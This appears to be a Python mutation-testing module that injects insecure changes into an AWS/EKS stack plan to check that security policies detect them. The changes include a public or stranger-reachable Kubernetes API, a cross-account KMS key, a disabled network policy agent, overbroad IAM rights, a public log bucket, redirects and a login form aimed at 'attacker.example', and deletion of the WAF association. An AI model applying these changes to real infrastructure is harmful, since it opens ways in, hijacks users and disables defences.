"""Ways in and out of a good stack in Amazon Web Services that somebody found who looked for them."""

import copy
import json
from typing import Any

from policies.reading.cloud.aws import kinds
from tests.policies.mutations.aws import add, called, depending, every, found, group, permit
from tests.policies.mutations.aws_rights import may, rewrite
from tests.policies.mutations.mutation import CloudFamily, Mutation, Table
from tests.policies.mutations.plan import MARKER, UNKNOWN, Plan, Record

NETWORK = Table(CloudFamily.NETWORK)
EDGE = Table(CloudFamily.EDGE)
CLUSTER = Table(CloudFamily.CLUSTER)
RIGHTS = Table(CloudFamily.RIGHTS)
EVASION = Table(CloudFamily.EVASION)

STRANGER = "999999999999"


# The Kubernetes API


@CLUSTER.mutation("N02", "somebody whom the stack file does not name reaches the Kubernetes API")
def aws_api_of_a_stranger(plan: Plan) -> bool:
    config = plan.edit(found(plan, kinds.CLUSTER))["vpcConfig"]
    config.update(endpointPublicAccess=True, endpointPrivateAccess=True, publicAccessCidrs=["198.51.100.66/32"])
    return True


@CLUSTER.mutation("N02", "the Kubernetes API has interfaces in the edge's subnets")
def aws_api_in_public_subnets(plan: Plan) -> bool:
    public = [record for record in every(plan, kinds.SUBNET) if called(record).startswith("public")]
    depending(plan, found(plan, kinds.CLUSTER), "vpcConfig", [*public, group(plan, "api")])
    return True


@CLUSTER.mutation("N05", "the Kubernetes API is a member of the edge's group")
def aws_api_in_edge_group(plan: Plan) -> bool:
    inside = [record for record in every(plan, kinds.SUBNET) if called(record).startswith("intra")]
    plan.edit(found(plan, kinds.CLUSTER))["vpcConfig"]["securityGroupIds"] = [UNKNOWN, UNKNOWN]
    depending(plan, found(plan, kinds.CLUSTER), "vpcConfig", [*inside, group(plan, "api"), group(plan, "edge")])
    return True


@CLUSTER.mutation("N05", "a private range that the stack file does not name reaches the Kubernetes API")
def aws_api_of_a_private_stranger(plan: Plan) -> bool:
    permit(plan, "api", cidrIpv4="192.168.0.0/16", fromPort=443, toPort=443)
    return True


@CLUSTER.mutation("N07", "Secrets are encrypted with a key of another account")
def aws_secrets_key_of_a_stranger(plan: Plan) -> bool:
    key = f"arn:aws:kms:eu-central-1:{STRANGER}:key/00000000-0000-0000-0000-000000000000"
    plan.edit(found(plan, kinds.CLUSTER))["encryptionConfig"]["provider"]["keyArn"] = key
    return True


# The network plugin


def _cni(plan: Plan, **values: Any) -> bool:
    inputs = plan.edit(found(plan, kinds.ADDON, "vpc-cni"))
    inputs["configurationValues"] = json.dumps({**json.loads(inputs["configurationValues"]), **values})
    return True


@CLUSTER.mutation("N06", "the container that enforces NetworkPolicies is off")
def aws_policy_agent_off(plan: Plan) -> bool:
    return _cni(plan, nodeAgent={"enabled": "false"})


@CLUSTER.mutation("N06", "the container that enforces NetworkPolicies is somebody else's")
def aws_policy_agent_of_a_stranger(plan: Plan) -> bool:
    return _cni(plan, nodeAgent={"image": {"override": "registry.example/agent:1"}})


@CLUSTER.mutation("N06", "the container that sets up the network does something else as well")
def aws_cni_init(plan: Plan) -> bool:
    return _cni(plan, init={"env": {"DISABLE_TCP_EARLY_DEMUX": "true"}})


@CLUSTER.mutation("N06", "the network plugin is told two things, which one reader takes for the one and another for the other")
def aws_cni_of_two_readings(plan: Plan) -> bool:
    inputs = plan.edit(found(plan, kinds.ADDON, "vpc-cni"))
    inputs["configurationValues"] = '{"enableNetworkPolicy": "false", ' + inputs["configurationValues"].removeprefix("{")
    return True


@CLUSTER.mutation("N06", "what somebody changed of the network plugin in the cluster stays")
def aws_cni_preserved(plan: Plan) -> bool:
    plan.edit(found(plan, kinds.ADDON, "vpc-cni"))["resolveConflictsOnUpdate"] = "PRESERVE"
    return True


# Rights


BALANCER = "arn:aws:elasticloadbalancing:eu-central-1:{account}:loadbalancer/app/abc-dev-edge/*"
CHANGES = {
    "ec2:AuthorizeSecurityGroupIngress": "arn:aws:ec2:eu-central-1:{account}:security-group/sg-0123456789abcdef0",
    "eks:A*": "arn:aws:eks:eu-central-1:{account}:cluster/abc-dev",
    "eks:*AccessEntry": "arn:aws:eks:eu-central-1:{account}:cluster/abc-dev",
    "elasticloadbalancing:CreateListener": BALANCER,
    "elasticloadbalancing:Set*": BALANCER,
    "lambda:InvokeFunction": "arn:aws:lambda:eu-central-1:{account}:function:admin",
    "route53:ChangeResourceRecordSets": "arn:aws:route53:::hostedzone/Z00000000000000000000",
    "ssm:StartSession": "arn:aws:ec2:eu-central-1:{account}:instance/i-0123456789abcdef0",
    "sts:A*": "arn:aws:iam::{account}:role/perimeter-admin",
    "wafv2:DisassociateWebACL": BALANCER,
    "wafv2:UpdateWebACL": "arn:aws:wafv2:eu-central-1:{account}:regional/webacl/abc-dev-waf/*",
}
"""Rights to one thing each, by which whoever has them opens a way."""


for _action, _thing in CHANGES.items():
    may(RIGHTS, _action, _thing, "and changes the boundary")


@RIGHTS.mutation("N12", "the pods of a service have rights in the account")
def aws_service_with_rights(plan: Plan) -> bool:
    service = plan.app("ServiceAccount")
    assert service is not None
    metadata = service["inputs"]["metadata"]
    record = found(plan, kinds.POD_IDENTITY)
    fresh = copy.deepcopy(record)
    fresh["urn"] += MARKER
    fresh["inputs"].update(namespace=metadata["namespace"], serviceAccount=metadata["name"])
    plan.resources.append(fresh)
    return True


def _logs_answer(plan: Plan, **said: Any) -> bool:
    policy = found(plan, kinds.BUCKET_POLICY)
    place = json.loads(policy["inputs"]["policy"])["Statement"][0]["Resource"]
    rewrite(plan, policy, lambda statements: statements.append({"Effect": "Allow", "Resource": place, **said}))
    return True


@RIGHTS.mutation("N12", "everybody reads the place in the bucket into which the load balancer writes")
def aws_logs_of_everybody(plan: Plan) -> bool:
    return _logs_answer(plan, Principal="*", Action="s3:GetObject")


@RIGHTS.mutation("N12", "a service of AWS reads the edge's logs for any account")
def aws_logs_of_a_service(plan: Plan) -> bool:
    return _logs_answer(plan, Principal={"Service": "cloudfront.amazonaws.com"}, Action="s3:GetObject")


# Ways out of the network, and names


@NETWORK.mutation("P07", "an endpoint leads to the service of somebody else")
def aws_endpoint_of_a_stranger(plan: Plan) -> bool:
    service = "com.amazonaws.vpce.eu-central-1.vpce-svc-0123456789abcdef0"
    plan.edit(found(plan, kinds.VPC_ENDPOINT, "endpoint-sts"))["serviceName"] = service
    return True


@NETWORK.mutation("P07", "the log of connections is kept in a bucket of somebody else")
def aws_flow_logs_elsewhere(plan: Plan) -> bool:
    plan.edit(found(plan, kinds.FLOW_LOG)).update(logDestinationType="s3", logDestination="arn:aws:s3:::other")
    return True


PROOFS = {
    "aws_acme_proof": ("_acme-challenge.{host}", "TXT", '"token"'),
    "aws_acme_proof_elsewhere": ("_acme-challenge.{host}", "CNAME", "{host}.attacker.example"),
    "aws_proof_for_a_stranger": ("_0123456789abcdef.{host}", "CNAME", "_4567.acm-validations.aws."),
    "aws_proof_that_is_an_address": ("_other.{host}", "A", "198.51.100.7"),
}
"""Records by which somebody gets a certificate for a host, or hides behind a name that begins as a proof does."""


def _proves(called_: str, name: str, kind: str, to: str) -> None:
    def change(plan: Plan) -> bool:
        given = {"zoneId": "Z00000000000000000000", "ttl": 60, "type": kind}
        add(plan, kinds.RECORD, {**given, "name": name.format(host="api.abc.example"), "records": [to.format(host="api.abc.example")]})
        return True

    change.__name__ = called_
    NETWORK.mutation("N10", f"{called_.removeprefix('aws_').replace('_', ' ')}, by a record of type {kind}")(change)


for _called, _record in PROOFS.items():
    _proves(_called, *_record)


# What the edge answers


def _answers(plan: Plan, **action: Any) -> bool:
    rule = {"listenerArn": UNKNOWN, "priority": 90, "conditions": [{"pathPattern": {"values": ["/login*"]}}], "actions": [action]}
    add(plan, kinds.LISTENER_RULE, rule, listenerArn=[found(plan, kinds.LISTENER)])
    return True


@EDGE.mutation("W11", "the load balancer sends clients to another host")
def aws_redirect_elsewhere(plan: Plan) -> bool:
    return _answers(plan, type="redirect", redirect={"host": "attacker.example", "protocol": "HTTPS", "statusCode": "HTTP_302"})


@EDGE.mutation("W11", "the load balancer sends clients on without TLS")
def aws_redirect_in_clear(plan: Plan) -> bool:
    return _answers(plan, type="redirect", redirect={"protocol": "HTTP", "port": "80", "statusCode": "HTTP_301"})


@EDGE.mutation("W11", "the load balancer answers in the place of a door")
def aws_answers_itself(plan: Plan) -> bool:
    page = {"statusCode": "200", "contentType": "text/html", "messageBody": "<form action='https://attacker.example'>"}
    return _answers(plan, type="fixed-response", fixedResponse=page)


@EDGE.mutation("W11", "methods pass that begin as one of a door")
def aws_longer_methods(plan: Plan) -> bool:
    rules = plan.edit(found(plan, kinds.WEB_ACL))["rules"]
    rule = next(each for each in rules if each["name"] == "other-methods")
    match = rule["statement"]["notStatement"]["statement"]["regexMatchStatement"]
    match["regexString"] = match["regexString"].removesuffix("$")
    return True


@EDGE.mutation("W06", "clients are shown the certificate of another account")
def aws_certificate_of_a_stranger(plan: Plan) -> bool:
    arn = f"arn:aws:acm:eu-central-1:{STRANGER}:certificate/00000000-0000-0000-0000-000000000000"
    plan.edit(found(plan, kinds.LISTENER))["certificateArn"] = arn
    return True


def _core(plan: Plan) -> Record:
    rules = plan.edit(found(plan, kinds.WEB_ACL))["rules"]
    name = "AWSManagedRulesCommonRuleSet"
    return next(each for each in rules if each["name"] == name)["statement"]["managedRuleGroupStatement"]


@EDGE.mutation("W03", "the core rules stay at their first version")
def aws_first_version_of_core(plan: Plan) -> bool:
    _core(plan)["version"] = "Version_1.0"
    return True


@EDGE.mutation("W03", "the core rules are configured")
def aws_configured_core(plan: Plan) -> bool:
    _core(plan)["managedRuleGroupConfigs"] = [{"loginPath": "/login"}]
    return True


@EDGE.mutation("W04", "the log of connections is in a bucket of somebody else")
def aws_connections_elsewhere(plan: Plan) -> bool:
    plan.edit(found(plan, kinds.LOAD_BALANCER))["connectionLogs"] = {"bucket": "other", "enabled": True}
    return True


# What is there no longer


@EVASION.mutation("P05", "the firewall's association is to be deleted")
def aws_association_on_its_way_out(plan: Plan) -> bool:
    plan.options(found(plan, kinds.WEB_ACL_ASSOCIATION))["delete"] = True
    return True


@EVASION.mutation("P05", "the policy that allows nothing is to be deleted")
def allow_nothing_on_its_way_out(plan: Plan) -> bool:
    policy = plan.first("AuthorizationPolicy", where=lambda inputs: not inputs.get("spec"))
    assert policy is not None
    plan.options(policy)["delete"] = True
    return True


MUTATIONS: tuple[Mutation, ...] = tuple(mutation for table in (NETWORK, EDGE, CLUSTER, RIGHTS, EVASION) for mutation in table.mutations)
